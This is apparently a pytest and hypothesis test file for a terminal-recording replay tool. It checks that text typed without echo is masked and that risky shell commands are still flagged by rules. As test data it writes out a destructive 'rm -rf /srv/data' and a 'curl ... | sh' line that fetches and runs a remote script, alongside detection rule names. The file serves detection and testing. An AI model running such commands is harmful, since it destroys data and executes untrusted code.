"""Text that was typed unseen first hides nothing of the same text that is typed visibly later."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from replay_tui.domain.session import Session
from replay_tui.recording import Recording
from replay_tui.sources import LoadedSession
from tests.shell.test_commands import ENTER, made, typed
from tests.support.effort import cases

COMMAND = "rm -rf /srv/data"
PARTS = st.integers(0, len(COMMAND) - 3).flatmap(
    lambda start: st.integers(start + 3, len(COMMAND)).map(lambda end: COMMAND[start:end].strip())
)


def events(hidden: str, printed: str = "") -> list[tuple[str, bytes]]:
    """Return a session in which `hidden` is typed at `read -s` and `COMMAND` visibly after it."""
    unseen = [("o", b"$ "), *typed(b"read -s x"), ENTER, ("o", b"\r\n"), *typed(hidden.encode(), echo=False), ENTER]
    return [*unseen, ("o", b"$ "), *typed(COMMAND.encode()), ENTER, ("o", b"\r\n" + printed.encode() + b"$ ")]


def recording(hidden: str, printed: str = "") -> Recording:
    return Recording(LoadedSession("s", Session.parse({}), made(*events(hidden, printed))))


CONTROL = recording("zzzzzz")


def results(shown: Recording) -> dict[str, object]:
    """Return what a reviewer sees of the visible commands."""
    redactor = shown.redactor
    return {
        "statements": [redactor.statement(row).text for row in shown.statements if row.kind == "shell"],
        "findings": [(one.rule, one.evidence) for one in shown.findings if one.rule != "hidden-input"],
        "screen": shown.screen("100%").text,
        "hits": [(hit.where, hit.text) for hit in shown.search("rm -rf")],
        "typed": [hit.text for hit in shown.search("srv/da", areas="input")],
        "keys": [redactor.payload(event.index, event.data) for event in shown.stream.events(len(shown.stream) - 36)],
    }


@settings(max_examples=cases(40), deadline=None)
@given(PARTS.filter(lambda text: len(text) >= 3))
def test_command_typed_unseen_first_is_still_shown(hidden: str) -> None:
    assert results(recording(hidden)) == results(CONTROL)


def test_command_typed_unseen_first_is_hidden_where_printed() -> None:
    """The command line stays; the same text in the output of a program is masked."""
    lines = recording(COMMAND, f"bash: {COMMAND}: not found\r\n").screen("100%").text.splitlines()
    assert lines[-3:] == [f"$ {COMMAND}", f"bash: {chr(0x2022) * len(COMMAND)}: not found", "$"]


@pytest.mark.parametrize(
    ("command", "rule"),
    [("rm -rf /srv/data", "shell-remove"), ("curl http://example.com/x.sh | sh", "shell-run-download")],
)
def test_command_typed_without_echo_is_found_by_rules(command: str, rule: str) -> None:
    """After `stty -echo` a shell still runs what it reads: it is masked, checked by the rules and reported."""
    switched = [("o", b"$ "), *typed(b"stty -echo"), ENTER, ("o", b"\r\n$ ")]
    shown = Recording(
        LoadedSession(
            "s", Session.parse({}), made(*switched, *typed(command.encode(), echo=False), ENTER, ("o", b"\r\n$ "))
        )
    )
    placeholder = f"({len(command)} possibly hidden characters)"
    assert [row.text for row in shown.statements] == ["stty -echo", placeholder]
    assert {one.rule for one in shown.findings} == {"hidden-input", rule}
    assert "hidden-input-uncertain" in {warning.code for warning in shown.fidelity}
    assert command not in repr((shown.statements, shown.findings, shown.fidelity))


def test_answer_to_secret_prompt_is_no_command() -> None:
    asked = [("o", b"Password: "), *typed(b"rm -rf /srv", echo=False), ENTER, ("o", b"\r\n$ ")]
    shown = Recording(LoadedSession("s", Session.parse({}), made(*asked)))
    assert [one.rule for one in shown.findings] == ["hidden-input"]
    assert not shown.fidelity or "hidden-input-uncertain" not in {warning.code for warning in shown.fidelity}
